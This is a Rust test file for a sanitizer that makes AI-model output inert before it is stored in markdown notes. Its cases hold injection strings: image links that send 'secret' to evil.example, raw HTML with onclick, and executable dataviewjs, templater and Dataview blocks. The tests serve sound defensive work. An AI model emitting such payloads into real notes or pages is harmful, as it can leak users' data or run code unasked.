//! What a model says does nothing by standing in a note.

use toolwrit_chat::format::{BlockId, Header, Inert, Kind, State, Status};

fn inert(words: &str) -> String {
    Inert::default().words(words)
}

#[test]
fn what_acts_is_broken() {
    let cases = [
        ("![x](https://evil.example/?q=secret)", "\\![x](https://evil.example/?q=secret)"),
        ("![x](//evil.example/a.png)", "\\![x](//evil.example/a.png)"),
        ("![x](&#104;ttps:evil)", "\\![x](&#104;ttps:evil)"),
        ("![x][ref]\n\n[ref]: https://evil.example", "\\![x][ref]\n\n[ref]: https://evil.example"),
        ("![x](pictures/a.png) and ![[Note]]", "![x](pictures/a.png) and ![[Note]]"),
        ("<img src=x>", "\\<img src=x>"),
        ("a <b>bold</b> <https://ok.example> 1 < 2", "a <b>bold</b> <https://ok.example> 1 < 2"),
        ("<b onclick=x>", "\\<b onclick=x>"),
        ("```dataviewjs\ndv.x()\n```", "```text dataviewjs\ndv.x()\n```"),
        ("- ```dataviewjs\n  x\n  ```", "- ```text dataviewjs\n  x\n  ```"),
        ("> ~~~ DataviewJS\n> x", "> ~~~text DataviewJS\n> x"),
        ("```toolwrit\ntool: x\n```", "```text toolwrit\ntool: x\n```"),
        ("```meta-bind-js-view\nx\n```", "```text meta-bind-js-view\nx\n```"),
        ("```rust\nlet a = b < c;\n// <img>\n```", "```rust\nlet a = b < c;\n// <img>\n```"),
        ("`= this.file`", "`\\= this.file`"),
        ("`$= dv.x()`", "`\\$= dv.x()`"),
        ("`a ` = b", "`a ` \\= b"),
        ("``INPUT[x]``", "``\\INPUT[x]``"),
        ("`<img>` is code", "`<img>` is code"),
        ("$`$ <img src=x> `", "$`$ \\<img src=x> `"),
        ("a ` b\n` <img src=x> `", "a ` b\n` \\<img src=x> `"),
        ("<% tp.x %>", "< % tp.x %>"),
        ("```js\n<% tp.x %>\n```", "```js\n< % tp.x %>\n```"),
        ("%%hidden%%", "% %hidden% %"),
        ("a\rb\u{2028}c\u{202e}d\u{7}", "a\nb\ncd"),
        ("- a\n  ```\n<img src=x>\n  ```", "- a\n  ```\n\\<img src=x>\n  ```"),
    ];
    for (words, expected) in cases {
        assert_eq!(inert(words), expected, "{words}");
    }
}

#[test]
fn operators_choose_which_blocks_execute() {
    let inert = Inert { executing: vec!["chart*".to_owned()] };
    assert_eq!(inert.words("```charts\nx\n```"), "```text charts\nx\n```");
    assert_eq!(inert.words("```dataview\nx\n```"), "```dataview\nx\n```");
}

/// Models make up names of tools, and providers messages.
#[test]
fn nothing_acts_in_a_header() {
    let acting =
        "$= x `= y` ![x](https://evil.example) ![[a]] <img src=x> <% tp %> %% \u{202e} \r\n> z %%%";
    let header = |text: &str| {
        let state = State::new(Status::Failed("UPSTREAM_ERROR".to_owned()), text);
        Header::new(Kind::Tool, BlockId::from_number(1), text, state)
    };
    let shown = header(acting).to_string();
    assert_eq!(
        shown,
        "> [!tool|aaaaaaaab]- `__ x __ y_ __x__https://evil.example_ ___a__ _img src_x_ __ tp __ __ _ ___ z ___` · \
         UPSTREAM_ERROR, $= x = y !(x)(https://evil.example) !((a)) ‹img src=x› ‹% tp %› %  › z %"
    );
    let again = Header::new(
        Kind::Tool,
        BlockId::from_number(1),
        &header(acting).name,
        header(acting).state,
    );
    assert_eq!(again.to_string(), shown);
}
